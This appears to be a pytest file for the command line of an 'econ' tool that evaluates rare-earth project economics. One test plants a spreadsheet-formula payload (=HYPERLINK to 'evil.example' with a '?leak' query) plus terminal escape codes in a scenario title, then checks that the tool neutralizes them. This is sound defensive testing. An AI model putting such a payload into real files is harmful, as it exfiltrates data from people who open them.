"""The command line as a user meets it."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

import econ
from econ.cli import main
from tests.conftest import ROOT, SEEDS


def test_show_prints_the_articles_figures(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", str(SEEDS / "national_ree_gap.toml")]) == 0
    out = capsys.readouterr().out
    assert "8.50 USD/kg" in out
    # 21,250,000 USD/yr: money scaled to M, three significant digits, half up
    assert "21.3 M USD/yr" in out
    assert "35.0 yr" in out
    assert "all pass" in out


@pytest.mark.parametrize(
    "args", [["--help"], ["show", "--help"], ["build", "--help"], ["run", "--help"]]
)
def test_help_explains_itself(args: list[str]) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "econ", *args], capture_output=True, text=True, cwd=ROOT, check=False
    )
    assert proc.returncode == 0
    assert "usage: econ" in proc.stdout


def test_missing_file_exits_2_without_traceback() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "econ", "show", "nope.toml"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stderr.strip() == "econ: error: nope.toml: no such file"


def test_public_api_is_reexported() -> None:
    for name in econ.__all__:
        assert hasattr(econ, name), name
    assert set(econ.__all__) >= {"load_scenario", "evaluate", "evaluate_many", "InputError"}


def test_batch_isolates_a_bad_scenario_and_exits_1(
    tmp_path: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    from pathlib import Path

    folder = Path(str(tmp_path)) / "in"
    folder.mkdir()
    for name in ("national_ree_gap", "acron_murmansk"):
        (folder / f"{name}.toml").write_text((SEEDS / f"{name}.toml").read_text())
    (folder / "broken.toml").write_text('name = "broken"\nmodel = "national"\n')
    out = Path(str(tmp_path)) / "out"
    assert main(["batch", str(folder), "-o", str(out), "-j", "1", "-q"]) == 1
    captured = capsys.readouterr()
    assert "built 2 of 3 scenarios" in captured.out
    assert "broken.toml: timeline: missing" in captured.err
    assert (out / "national_ree_gap.html").exists() and (out / "acron_murmansk.xlsx").exists()
    assert (out / "index.html").exists() and (out / "summary.csv").exists()


def test_sweep_rejects_a_bad_vary_option(
    capsys: pytest.CaptureFixture[str], tmp_path: pytest.TempPathFactory
) -> None:
    code = main(
        [
            "sweep",
            str(SEEDS / "national_ree_gap.toml"),
            "--vary",
            "nonsense=1:2:1",
            "-o",
            str(tmp_path),
            "-q",
        ]
    )
    assert code == 2
    assert "nonsense" in capsys.readouterr().err


def test_show_and_batch_read_an_edited_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An econ workbook is a scenario too: its Assumptions sheet is read back."""
    import shutil

    from tests.test_excel import edit_workbook

    src = ROOT / "workbooks" / "magnets_plant.xlsx"
    edited = tmp_path / "what_if.xlsx"
    edit_workbook(src, edited, {"capex_usd": 300e6})
    assert main(["show", str(edited)]) == 0
    shown = capsys.readouterr().out
    expected = econ.evaluate(
        econ.load_scenario(SEEDS / "magnets_plant.toml").with_values(capex_usd=300e6)
    )
    from econ.display import format_item

    npv = expected.model.item("npv_usd")
    assert format_item(float(expected.metric("npv_usd")[0]), npv) in shown
    shutil.copy(SEEDS / "national_ree_gap.toml", tmp_path / "national_ree_gap.toml")
    out = tmp_path / "out"
    assert main(["batch", str(edited), str(tmp_path / "national_ree_gap.toml"), "-o", str(out),
                 "-j", "1", "-q"]) == 0  # fmt: skip
    # an edited copy's outputs are named after its file, not after the scenario
    assert (out / "what_if.xlsx").exists() and (out / "what_if.html").exists()
    assert not (out / "magnets_plant.xlsx").exists()


def test_titles_cannot_drive_the_terminal_or_become_csv_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (SEEDS / "national_ree_gap.toml").read_text(encoding="utf-8")
    title = "=HYPERLINK('http://evil.example/?leak','Click')\\u001b[2J\\u0007"
    bad = tmp_path / "evil.toml"
    start = text.index("title = ")
    end = text.index("\n", start)
    bad.write_text(text[:start] + f'title = "{title}"' + text[end:], encoding="utf-8")
    assert main(["show", str(bad)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "?[2J?" in out
    assert main(["batch", str(bad), "-o", str(tmp_path / "out"), "-j", "1", "-q"]) == 0
    import csv

    with (tmp_path / "out" / "summary.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"].startswith("'=HYPERLINK(")  # OWASP: neutralized


def test_export_never_writes_onto_its_own_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    book = tmp_path / "w.xlsx"
    shutil.copy(ROOT / "workbooks" / "magnets_plant.xlsx", book)
    before = book.read_bytes()
    assert main(["export", str(book), "-o", str(book)]) == 2
    assert "refused" in capsys.readouterr().err
    assert main(["export", str(book), "-o", str(tmp_path / "other.xlsx")]) == 2
    assert book.read_bytes() == before and not (tmp_path / "other.xlsx").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ["show", "a.toml"],
        ["show", "a.toml", "b.xlsx"],
        ["show", "x y.toml"],
    ],
)
def test_show_shortcut_parses_as_argparse(argv: list[str]) -> None:
    """``econ show FILE...`` skips building the parser; the namespace is the
    one argparse gives (options and anything else still go through it)."""
    from econ.cli import _parse, _parser

    assert vars(_parse(argv)) == vars(_parser().parse_args(argv))


def test_show_with_options_still_parsed_by_argparse(capsys: pytest.CaptureFixture[str]) -> None:
    from econ.cli import _parse

    with pytest.raises(SystemExit) as exc:
        _parse(["show", "a.toml", "--no-such-option"])
    assert exc.value.code == 2
    assert "unrecognized arguments: --no-such-option" in capsys.readouterr().err
    assert _parse(["--debug", "show", "a.toml"]).debug is True
